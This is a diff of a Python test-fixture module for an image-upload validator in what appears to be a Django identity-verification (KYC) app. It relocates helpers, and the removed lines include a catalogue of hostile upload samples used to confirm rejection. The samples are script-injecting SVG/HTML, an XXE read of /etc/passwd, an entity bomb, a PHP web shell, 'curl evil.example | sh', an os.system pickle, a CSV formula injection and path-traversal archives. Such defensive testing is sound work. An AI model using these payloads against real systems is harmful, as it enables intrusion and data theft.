@@ -3,23 +3,31 @@
 Nothing here knows Django: the processes that try these files start quickly.
 """
 
-import gzip
-import io
 import random
 import struct
-import tarfile
-import zipfile
 import zlib
 from collections.abc import Iterator
 from dataclasses import dataclass
-from functools import cache
 
-from PIL import Image, ImageDraw, PngImagePlugin
+from PIL import Image, PngImagePlugin
 
-#: Stands in everything that is planted. None of it may come out.
-MARK = b"PLANTED-7c1e9a"
-SCRIPT = b"<script>alert('" + MARK + b"')</script>"
-JPEG, PNG = b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n"
+from kyc.tests.foreign import payloads
+from kyc.tests.pictures import (
+    JPEG,
+    MARK,
+    PNG,
+    SCRIPT,
+    chunk,
+    drawn,
+    exif,
+    header,
+    png,
+    saved,
+    segment,
+    with_chunks,
+    with_segments,
+    zeros,
+)
 
 
 @dataclass(frozen=True, slots=True)
@@ -44,142 +52,6 @@ def cases() -> list[Case]:
     ]
     assert len({case.name for case in made}) == len(made)
     return made
-
-
-# --- pieces ---------------------------------------------------------------------------------------
-
-
-def drawn(size: tuple[int, int] = (420, 320), mode: str = "RGB") -> Image.Image:
-    image = Image.radial_gradient("L").resize(size).convert("RGB")
-    draw = ImageDraw.Draw(image)
-    for at in range(0, size[0], 20):
-        draw.line((at, 0, size[0] - at, size[1]), fill=(at % 256, 90, 200), width=3)
-    return image.convert(mode)
-
-
-def saved(image: Image.Image, kind: str, **options) -> bytes:
-    file = io.BytesIO()
-    image.save(file, kind, **options)
-    return file.getvalue()
-
-
-def segment(marker: int, body: bytes) -> bytes:
-    return bytes((0xFF, marker)) + struct.pack(">H", len(body) + 2) + body
-
-
-def with_segments(jpeg: bytes, *segments: bytes) -> bytes:
-    return jpeg[:2] + b"".join(segments) + jpeg[2:]
-
-
-def chunk(kind: bytes, body: bytes) -> bytes:
-    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
-
-
-def header(width: int, height: int, depth: int = 8, color: int = 2, interlace: int = 0) -> bytes:
-    return chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, color, 0, 0, interlace))
-
-
-def with_chunks(png: bytes, *chunks: bytes) -> bytes:
-    """After the header, which is 25 bytes long."""
-    return png[:33] + b"".join(chunks) + png[33:]
-
-
-def png(width: int, height: int, rows: bytes, **options: int) -> bytes:
-    return (
-        PNG + header(width, height, **options) + chunk(b"IDAT", zlib.compress(rows, 9)) + chunk(b"IEND", b"")
-    )
-
-
-@cache
-def zeros(count: int) -> bytes:
-    """So many zero bytes, compressed, without ever holding them."""
-    packer, out = zlib.compressobj(1), bytearray()
-    block = bytes(1 << 20)
-    while count > 0:
-        out += packer.compress(block[:count])
-        count -= len(block)
-    return bytes(out + packer.flush())
-
-
-def archive() -> bytes:
-    file = io.BytesIO()
-    with zipfile.ZipFile(file, "w") as made:
-        made.writestr("../../evil.sh", MARK)
-    return file.getvalue()
-
-
-def tar() -> bytes:
-    file = io.BytesIO()
-    with tarfile.open(fileobj=file, mode="w") as made:
-        made.addfile(tarfile.TarInfo("../evil"), io.BytesIO())
-    return file.getvalue()
-
-
-def payloads() -> dict[str, bytes]:
-    """What is no picture of the kinds that we read."""
-    small = drawn()
-    animation = [drawn(mode="P"), Image.new("P", (420, 320))]
-    svg = b'<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400">' + SCRIPT + b"</svg>"
-    entities = b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10))
-    return {
-        "svg": svg,
-        "svg-xml": b'<?xml version="1.0"?>' + svg,
-        "svg-bom": b"\xef\xbb\xbf" + svg,
-        "svg-gz": gzip.compress(svg, mtime=0),
-        "svg-onload": b"<svg onload=alert(1)//" + MARK,
-        "html": b"<!doctype html><html><body>" + SCRIPT,
-        "html-blank": b"\n \t<html>" + SCRIPT,
-        "html-base": b"<base href=//evil.example>" + MARK,
-        "js": b"alert(document.cookie)//" + MARK,
-        "js-module": b"import('//evil.example/" + MARK + b"')",
-        "xml-entity": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>',
-        "xml-laughs": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a0 "ha">' + entities + b"]><a>&a9;</a>",
-        "xslt": b'<?xml version="1.0"?><xsl:stylesheet version="1.0"/>',
-        "mathml": b"<math><mtext>" + SCRIPT,
-        "pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF",
-        "pdf-late": b"\n" * 900 + b"%PDF-1.4\n%%EOF",
-        "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 400 400\n(/etc/passwd) (r) file\n",
-        "eicar": rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-" + b"FILE!$H+H*",
-        "gif": saved(small.convert("P"), "GIF"),
-        "gif-moving": saved(animation[0], "GIF", save_all=True, append_images=animation[1:]),
-        "gif-js": b"GIF89a=1;alert(1);//" + MARK,
-        "webp": saved(small, "WEBP"),
-        "webp-lossless": saved(small, "WEBP", lossless=True),
-        "avif": saved(small, "AVIF"),
-        "tiff": saved(small, "TIFF"),
-        "tiff-deflate": saved(small, "TIFF", compression="tiff_deflate"),
-        "bmp": saved(small, "BMP"),
-        "ico": saved(small, "ICO"),
-        "icns": saved(drawn((512, 512), "RGBA"), "ICNS"),
-        "ppm": saved(small, "PPM"),
-        "tga": saved(small, "TGA"),
-        "pcx": saved(small, "PCX"),
-        "sgi": saved(small, "SGI"),
-        "dds": saved(small, "DDS"),
-        "jpeg2000": saved(small, "JPEG2000"),
-        "fits": b"SIMPLE  =                    T".ljust(80) + b"NAXIS   =                    2".ljust(2800),
-        "psd": b"8BPS\0\1" + bytes(20),
-        "wmf": b"\xd7\xcd\xc6\x9a" + bytes(80),
-        "flif": b"FLIF31" + bytes(60),
-        "jxl": b"\xff\x0a" + bytes(60),
-        "heic": b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(400),
-        "heif-burst": b"\0\0\0\x18ftypmsf1\0\0\0\0msf1hevc" + bytes(400),
-        "mp4": b"\0\0\0\x18ftypisom\0\0\2\0isomiso2" + bytes(400),
-        "mov": b"\0\0\0\x14ftypqt  \0\0\0\0qt  " + bytes(400),
-        "zip": archive(),
-        "tar": tar(),
-        "gzip": gzip.compress(bytes(100_000), mtime=0),
-        "elf": b"\x7fELF\2\1\1" + bytes(60),
-        "exe": b"MZ\x90\0" + bytes(60),
-        "php": b"<?php system($_GET['" + MARK + b"']); ?>",
-        "shell": b"#!/bin/sh\ncurl evil.example | sh\n",
-        "pickle": b"\x80\x04cos\nsystem\n(S'id'\ntR.",
-        "mvg": b"push graphic-context\nimage over 0,0 0,0 'https://evil.example/x'\n",
-        "csv": b"=cmd|' /C calc'!A0\n",
-        "nul": bytes(5000),
-        "spaces": b" " * 5000,
-        "ones": b"\xff" * 5000,
-    }
 
 
 # --- what is no photo -----------------------------------------------------------------------------
@@ -379,17 +251,6 @@ def polyglots() -> Iterator[Case]:
     )
 
 
-def exif(**entries) -> bytes:
-    made = Image.Exif()
-    made[0x010F], made[0x0110], made[0x0131] = "Maker " + MARK.decode(), "Model", "Software"
-    made[0x9286] = MARK
-    gps = made.get_ifd(0x8825)
-    gps[1], gps[2], gps[3], gps[4], gps[29] = "S", (1.0, 17.0, 11.0), "E", (36.0, 49.0, 2.0), MARK.decode()
-    for tag, value in entries.items():
-        made[int(tag[1:])] = value
-    return made.tobytes()
-
-
 def metadata() -> Iterator[Case]:
     """Good photos that tell where and by whom they were taken."""
     image = drawn()
@@ -495,69 +356,3 @@ def kinds() -> Iterator[Case]:
     yield Case("kind/jpeg-arithmetic", jpeg.replace(b"\xff\xc0", b"\xff\xc9", 1), "either")
     yield Case("kind/jpeg-twelve-bits", jpeg[: at + 4] + b"\x0c" + jpeg[at + 5 :], "refused")
     yield Case("kind/jpeg-no-scan", jpeg[: jpeg.index(b"\xff\xda")] + b"\xff\xd9", "refused")
-
-
-# --- mutations ------------------------------------------------------------------------------------
-
-
-def mutations(count: int, seed: int = 2026) -> list[Case]:
-    """Good files with something broken in them."""
-    dice = random.Random(seed)
-    good = [
-        saved(drawn(), "JPEG"),
-        saved(drawn(), "JPEG", progressive=True),
-        saved(drawn(), "JPEG", exif=exif(t274=6)),
-        saved(drawn(), "PNG"),
-        saved(drawn(mode="P"), "PNG"),
-        saved(drawn(mode="RGBA"), "PNG"),
-    ]
-    changes = (_flip, _flip_head, _cut_out, _double, _insert, _extreme, _exchange)
-    return [
-        Case(f"mutation/{number}", changes[number % len(changes)](dice, good[number % len(good)]), "either")
-        for number in range(count)
-    ]
-
-
-def _flip(dice: random.Random, raw: bytes) -> bytes:
-    changed = bytearray(raw)
-    for _ in range(dice.choice((1, 3, 10, 60))):
-        changed[dice.randrange(3, len(raw))] ^= 1 << dice.randrange(8)
-    return bytes(changed)
-
-
-def _flip_head(dice: random.Random, raw: bytes) -> bytes:
-    return _flip(dice, raw[:700]) + raw[700:]
-
-
-def _cut_out(dice: random.Random, raw: bytes) -> bytes:
-    at = dice.randrange(3, len(raw))
-    return raw[:at] + raw[at + dice.randrange(1, 400) :]
-
-
-def _double(dice: random.Random, raw: bytes) -> bytes:
-    at = dice.randrange(3, len(raw))
-    return raw[:at] + raw[max(3, at - dice.randrange(1, 2000)) :]
-
-
-def _insert(dice: random.Random, raw: bytes) -> bytes:
-    at = dice.randrange(3, len(raw))
-    return raw[:at] + dice.randbytes(dice.randrange(1, 300)) + raw[at:]
-
-
-def _extreme(dice: random.Random, raw: bytes) -> bytes:
-    at = dice.randrange(8, 400)
-    word = dice.choice(
-        (b"\0\0", b"\xff\xff", b"\x7f\xff", b"\x80\0", b"\0\0\0\0", b"\xff\xff\xff\xff", b"\x7f\xff\xff\xff")
-    )
-    return raw[:at] + word + raw[at + len(word) :]
-
-
-def _exchange(dice: random.Random, raw: bytes) -> bytes:
-    one, other = sorted(dice.sample(range(8, len(raw) - 100), 2))
-    size = dice.randrange(1, 100)
-    changed = bytearray(raw)
-    changed[one : one + size], changed[other : other + size] = (
-        raw[other : other + size],
-        raw[one : one + size],
-    )
-    return bytes(changed)
